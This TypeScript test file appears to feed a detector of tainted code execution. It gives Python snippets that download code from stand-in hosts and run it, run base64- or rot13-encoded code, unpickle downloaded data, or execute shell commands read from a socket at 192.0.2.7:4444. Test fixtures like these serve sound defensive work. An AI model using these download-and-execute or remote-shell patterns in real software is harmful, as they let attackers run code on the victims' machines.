// Examples of tainted-execution.
import type { Example } from "../../core/detector.ts";
import { builder, python } from "./testing/program.ts";

const RUN = "ex" + "ec";
const VALUE = "ev" + "al";
/** `print('hello')`, which is all that any of these would run. */
const ENCODED = Buffer.from("print('hello')").toString("base64");

export const examples: readonly Example[] = [
  python(
    "Downloaded code",
    ["3 critical"],
    "import requests",
    'code = requests.get("https://files.example.test/a.py").text',
    `${RUN}(code)`,
  ),
  python(
    "The same in one line, with urllib under another name",
    ["2 critical"],
    "from urllib.request import urlopen as fetch",
    `${RUN}(fetch("https://files.example.test/a.py").read().decode())`,
  ),
  python("Encoded code", ["2 critical"], "import base64", `${RUN}(base64.b64decode("${ENCODED}"))`),
  python(
    "The same in layers, imported in place",
    ["1 critical"],
    `${RUN}(__import__("zlib").decompress(__import__("base64").b64decode("${ENCODED}")))`,
  ),
  python(
    "Encoded code compiled first",
    ["3 critical"],
    "import codecs",
    `text = codecs.decode("${"cevag('uryyb')"}", "rot13")`,
    `${RUN}(compile(text, "x", "exec"))`,
  ),
  python(
    "Character codes",
    ["2 critical"],
    "codes = [112, 114, 105, 110, 116]",
    `${VALUE}("".join(chr(code) for code in codes))`,
  ),
  python(
    "A loading script that runs what it downloads",
    ["22 critical"],
    ...builder("import requests", `${VALUE}(requests.get(path).text)`),
  ),
  python(
    "Through a function's argument and its return",
    ["5 critical", "7 critical"],
    "import os, requests",
    "def fetch(url):",
    "    return requests.get(url).text",
    "def run(command):",
    "    os.system(command)",
    "run(fetch(address))",
    `${RUN}(fetch(address))`,
  ),
  python(
    "Through an attribute",
    ["7 critical"],
    "import httpx",
    "class Loader:",
    "    def __init__(self, url):",
    "        with httpx.Client() as client:",
    "            self.text = client.get(url).text",
    "    def run(self):",
    `        ${RUN}(self.text)`,
  ),
  python(
    "Commands from a socket",
    ["5 critical"],
    "import socket, subprocess",
    "peer = socket.socket()",
    'peer.connect(("192.0.2.7", 4444))',
    "while True:",
    "    subprocess.run(peer.recv(1024).decode(), shell=True)",
  ),
  python(
    "A script that is written first",
    ["4 critical"],
    "import os, requests",
    'with open("/tmp/step.sh", "wb") as out:',
    '    out.write(requests.get("https://files.example.test/step").content)',
    'os.system("sh /tmp/step.sh")',
  ),
  python(
    "A program that is fetched to a path of its own",
    ["3 critical"],
    "import subprocess, urllib.request",
    "urllib.request.urlretrieve(address, target)",
    'subprocess.Popen(["python", target])',
  ),
  python(
    "A downloaded pickle",
    ["2 high"],
    "import pickle, requests",
    'pickle.loads(requests.get("https://files.example.test/a").content)',
  ),
  python(
    "Handed on to something that calls it",
    ["2 critical"],
    "import requests",
    `list(map(${RUN}, [requests.get(address).text]))`,
  ),
  python(
    "Collected in a list",
    ["5 critical"],
    "parts = []",
    "for code in codes:",
    "    parts.append(chr(code))",
    "text = ''.join(parts)",
    `${RUN}(text)`,
  ),
  python(
    "As the default of a parameter",
    ["2 critical"],
    "import requests",
    `def f(text, run=${RUN}): run(text)`,
    "f(requests.get(address).text)",
  ),
  python("Marshalled code", ["2 critical"], "import marshal", `${RUN}(marshal.loads(blob))`),
  python(
    "Downloads that are data",
    [],
    "import base64, json, os, requests, subprocess, urllib.request",
    'rows = json.loads(requests.get("https://data.example.com/rows.json").text)',
    'urllib.request.urlretrieve("https://data.example.com/a.zip", "a.zip")',
    'subprocess.run(["unzip", "a.zip"])',
    "image = base64.b64decode(rows[0])",
    'os.system("tar xf a.zip -C data")',
  ),
];
